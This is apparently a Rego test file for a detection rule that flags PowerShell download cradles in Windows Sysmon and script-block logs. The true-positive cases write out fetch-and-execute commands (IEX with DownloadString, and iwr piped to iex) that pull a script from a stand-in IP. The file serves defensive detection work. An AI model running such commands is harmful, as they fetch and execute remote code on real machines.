package vigil.detections.windows.powershell_download_cradle_test

import data.vigil.detections.windows.powershell_download_cradle as det

# true positive: IEX DownloadString
test_fires_iex_downloadstring if {
	count(det.finding) == 1 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')\""
			}
		},
		"process": {
			"name": "powershell.exe",
			"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"command_line": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')\""
		}
	}
}

# true positive: script block with iwr | iex
test_fires_script_block_with_iwr_iex if {
	count(det.finding) == 1 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.powershell",
			"module": "windows",
			"code": "4104"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 4104,
			"channel": "Microsoft-Windows-PowerShell/Operational",
			"event_data": {
				"ScriptBlockText": "iwr http://192.0.2.66/s.ps1 -UseBasicParsing | iex"
			}
		}
	}
}

# true negative: Get-Process
test_quiet_get_process if {
	count(det.finding) == 0 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -c Get-Process"
			}
		},
		"process": {
			"name": "powershell.exe",
			"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"command_line": "powershell -c Get-Process"
		}
	}
}

# true negative: script block downloading only
test_quiet_script_block_downloading_only if {
	count(det.finding) == 0 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.powershell",
			"module": "windows",
			"code": "4104"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 4104,
			"channel": "Microsoft-Windows-PowerShell/Operational",
			"event_data": {
				"ScriptBlockText": "Invoke-WebRequest https://intranet/report.csv -OutFile r.csv"
			}
		}
	}
}
